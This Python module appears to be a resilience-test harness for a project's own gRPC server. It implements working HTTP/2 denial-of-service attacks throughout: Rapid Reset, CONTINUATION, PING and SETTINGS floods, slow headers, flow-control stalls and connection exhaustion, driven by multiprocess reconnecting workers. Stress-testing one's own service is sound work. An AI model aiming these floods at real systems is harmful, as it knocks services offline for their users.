"""What an attacker does to a server of HTTP/2, each for as long as it is let.

An attacker that is thrown out comes back at once. It reads what it is sent, so that the server
never waits for it, and runs in the idle class: what it costs the machine is not to be taken for
what it costs the server.
"""

from __future__ import annotations

import contextlib
import multiprocessing
import os
import random
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from multiprocessing.queues import Queue
from multiprocessing.synchronize import Event
from types import TracebackType

from contact.v1 import audit_pb2, contact_pb2, recipients_pb2

from . import frames
from .frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    WINDOW_UPDATE,
)
from .holders import connect

READ_BYTES = 1 << 16
FULL_SECONDS = 0.002
STREAMS_A_CONNECTION = 100
# What a chunk holds: enough that sending it costs little for each frame.
FRAMES_A_CHUNK = 1_000
# A customer with as many contacts as there may be.
LARGE_CUSTOMER = "LARGE"


@dataclass(frozen=True)
class Target:
    """The server, and the tokens of two clients that are let in."""

    address: str
    tokens: tuple[str, ...]

    @property
    def token(self) -> str:
        return random.choice(self.tokens) if self.tokens else ""


@dataclass
class Count:
    """What an attacker came to."""

    connections: int = 0
    thrown_out: int = 0
    sent_bytes: int = 0

    def __iadd__(self, other: Count) -> Count:
        self.connections += other.connections
        self.thrown_out += other.thrown_out
        self.sent_bytes += other.sent_bytes
        return self


@dataclass
class Abuse:
    """The bytes of an abuse, as they follow one another on one connection."""

    # How many connections do it at once.
    connections: int = 8
    # How long a turn of all connections takes at least.
    pause_seconds: float = 0.0
    # Whether it takes what arrives at its socket.
    reads: bool = True
    target: Target = field(default_factory=lambda: Target("", ()))

    def chunks(self) -> Iterator[bytes]:
        """What is sent, until it is empty: then the connection is only held."""
        raise NotImplementedError


class RapidReset(Abuse):
    """Calls that are taken back at once, by somebody without a token."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING
        head = frames.head_of_call("ResolveRecipients", self.token())
        cancel = CANCEL.to_bytes(4, "big")
        stream = 1
        while stream < 1 << 30:
            chunk = bytearray()
            for _ in range(self.resets_a_chunk()):
                chunk += frames.frame(HEADERS, END_HEADERS, stream, head)
                chunk += self.message(stream)
                chunk += frames.frame(RST_STREAM, 0, stream, cancel)
                stream += 2
            yield bytes(chunk)

    def token(self) -> str:
        return ""

    def message(self, stream: int) -> bytes:
        del stream
        return b""

    def resets_a_chunk(self) -> int:
        return FRAMES_A_CHUNK


class RapidResetOfCalls(RapidReset):
    """Good calls that are taken back at once, so few together that no limit notices."""

    def token(self) -> str:
        return self.target.token

    def message(self, stream: int) -> bytes:
        request = recipients_pb2.ResolveRecipientsRequest(
            customer_number="C-00000000", purpose=recipients_pb2.PURPOSE_GENERAL
        )
        body = frames.message(request.SerializeToString())
        return frames.frame(DATA, END_STREAM, stream, body)

    def resets_a_chunk(self) -> int:
        return 10


class ContinuationFlood(Abuse):
    """A header block that never ends."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING + frames.frame(HEADERS, 0, 1, frames.head_of_call("GetCustomer"))
        more = frames.frame(CONTINUATION, 0, 1, frames.header("x", "y"))
        while True:
            yield more * FRAMES_A_CHUNK


class EmptyData(Abuse):
    """A stream of somebody with a token, with frames that hold nothing."""

    def chunks(self) -> Iterator[bytes]:
        head = frames.head_of_call("StreamRecipients", self.target.token)
        yield frames.GREETING + frames.frame(HEADERS, END_HEADERS, 1, head)
        while True:
            yield frames.frame(DATA, 0, 1) * FRAMES_A_CHUNK


class MalformedHeaders(Abuse):
    """Streams whose headers no request may have."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING
        head = frames.head_of_call("GetCustomer") + frames.header("UPPER", "case")
        stream = 1
        while stream < 1 << 30:
            last = stream + 2 * FRAMES_A_CHUNK
            yield b"".join(
                frames.frame(HEADERS, END_HEADERS | END_STREAM, number, head)
                for number in range(stream, last, 2)
            )
            stream = last


class Silence(Abuse):
    """Connections that never greet."""

    def chunks(self) -> Iterator[bytes]:
        return iter(())


class SlowHeaders(Abuse):
    """Headers a byte at a time."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING
        head = frames.frame(HEADERS, END_HEADERS, 1, frames.head_of_call("GetCustomer") * 50)
        for byte in head:
            yield bytes([byte])


class PingFlood(Abuse):
    """Pings, each of which wants an answer."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING
        while True:
            yield frames.frame(PING, 0, 0, b"12345678") * FRAMES_A_CHUNK


class SettingsFlood(Abuse):
    """Settings, each of which wants an answer and touches every stream."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING
        changes = [frames.settings(initial_window_size=size) for size in (65_535, 1_000)]
        while True:
            yield b"".join(changes) * (FRAMES_A_CHUNK // 2)


@dataclass
class Unread(Abuse):
    """Responses to a client with a token, which are asked for and never taken."""

    rpc: str = "StreamRecipients"
    # What each stream may be sent. The connection's own window is wide, so that every stream stalls by
    # itself.
    window: int = 0

    def chunks(self) -> Iterator[bytes]:
        widen = frames.frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big"))
        yield frames.PREFACE + frames.settings(initial_window_size=self.window) + widen
        body = frames.message(self.request())
        head = frames.head_of_call(self.rpc, self.target.token)
        for index in range(STREAMS_A_CONNECTION):
            stream = 2 * index + 1
            yield frames.frame(HEADERS, END_HEADERS, stream, head) + frames.frame(
                DATA, END_STREAM, stream, body
            )

    def request(self) -> bytes:
        if self.rpc == "WatchChanges":
            return audit_pb2.WatchChangesRequest().SerializeToString()
        if self.rpc == "ListContacts":
            return contact_pb2.ListContactsRequest(
                customer_number=LARGE_CUSTOMER, page_size=1_000
            ).SerializeToString()
        numbers = [f"C-{number:08}" for number in range(1_000)]
        return recipients_pb2.StreamRecipientsRequest(
            customer_numbers=numbers, purpose=recipients_pb2.PURPOSE_INVOICE
        ).SerializeToString()


class UnreadRejections(Abuse):
    """Requests without a token, whose rejections stay in the socket."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING
        head = frames.head_of_call("GetCustomer")
        stream = 1
        while stream < 1 << 30:
            last = stream + 2 * STREAMS_A_CONNECTION
            yield b"".join(
                frames.frame(HEADERS, END_HEADERS | END_STREAM, number, head)
                for number in range(stream, last, 2)
            )
            stream = last


@dataclass
class OpenRpcs(Abuse):
    """Streams that need no token, as many as a connection may have."""

    path: str = "/grpc.health.v1.Health/Watch"

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING
        head = frames.head_of(self.path)
        for index in range(STREAMS_A_CONNECTION):
            # A reflection stream waits for a request, a watch has an empty one.
            message = frames.frame(DATA, 0, 2 * index + 1, frames.message(b""))
            body = message if "Health" in self.path else b""
            yield frames.frame(HEADERS, END_HEADERS, 2 * index + 1, head) + body


class Idle(Abuse):
    """Connections that shake hands and then do nothing."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING


class UnfinishedCalls(Abuse):
    """Calls of somebody with a token that never send their message; each is made anew."""

    def chunks(self) -> Iterator[bytes]:
        yield frames.GREETING
        head = frames.head_of_call("ResolveRecipients", self.target.token)
        stream = 1
        while True:
            chunk = b"".join(
                frames.frame(HEADERS, END_HEADERS, number, head)
                for number in range(stream, stream + 2 * STREAMS_A_CONNECTION, 2)
            )
            stream += 2 * STREAMS_A_CONNECTION
            yield chunk


class Attack:
    """Processes that do it until they are left."""

    def __init__(self, abuse: Abuse) -> None:
        context = multiprocessing.get_context("spawn")
        self._stop = context.Event()
        self._counts: Queue[Count] = context.Queue()
        self._process = context.Process(
            target=attack, args=(abuse, self._stop, self._counts), daemon=True
        )
        self.count = Count()

    def __enter__(self) -> Attack:
        self._process.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._stop.set()
        with contextlib.suppress(Exception):
            self.count = self._counts.get(timeout=20)
        self._process.join(10)
        if self._process.is_alive():
            self._process.kill()
            self._process.join()


def attack(abuse: Abuse, stop: Event, counts: Queue[Count]) -> None:
    """Keeps all connections of an abuse busy, in one thread each at most 16."""
    with contextlib.suppress(OSError):
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    threads = min(abuse.connections, 16)
    shares = [Count() for _ in range(threads)]
    workers = [
        threading.Thread(
            target=keep_on, args=(abuse, len(range(index, abuse.connections, threads)), stop, share)
        )
        for index, share in enumerate(shares)
    ]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    whole = Count()
    for share in shares:
        whole += share
    counts.put(whole)


def keep_on(abuse: Abuse, connections: int, stop: Event, count: Count) -> None:
    """Takes turns with its connections, and opens those anew that were closed."""
    lines: list[Line | None] = [None] * connections
    while not stop.is_set():
        begun = time.monotonic()
        for index, line in enumerate(lines):
            if stop.is_set():
                break
            if line is None:
                with contextlib.suppress(OSError):
                    lines[index] = Line(abuse)
                    count.connections += 1
            elif not line.go_on(count):
                line.close()
                lines[index] = None
                count.thrown_out += 1
        # Nothing to send in this turn, or a pause that was asked for.
        idle = all(line is None or line.is_done for line in lines)
        pause = max(abuse.pause_seconds - (time.monotonic() - begun), 0.1 if idle else 0)
        if pause:
            stop.wait(pause)
    for line in lines:
        if line is not None:
            line.close()


class Line:
    """One connection of an attacker."""

    def __init__(self, abuse: Abuse) -> None:
        self._connection = connect(abuse.target.address)
        self._connection.setblocking(False)
        self._chunks = abuse.chunks()
        self._reads = abuse.reads
        self._rest = b""
        self.is_done = False

    def close(self) -> None:
        self._connection.close()

    def go_on(self, count: Count) -> bool:
        """Sends a chunk and takes what came; whether the connection is still there."""
        try:
            if not self._rest and not self.is_done:
                self._rest = next(self._chunks, b"")
                self.is_done = not self._rest
            if self._rest:
                self._send(count)
            return self._take()
        except OSError:
            return False

    def _send(self, count: Count) -> None:
        try:
            sent = self._connection.send(self._rest)
        except BlockingIOError:
            # The server is behind.
            time.sleep(FULL_SECONDS)
            return
        self._rest = self._rest[sent:]
        count.sent_bytes += sent

    def _take(self) -> bool:
        if not self._reads:
            return True
        try:
            while self._connection.recv(READ_BYTES):
                pass
        except BlockingIOError:
            return True
        return False
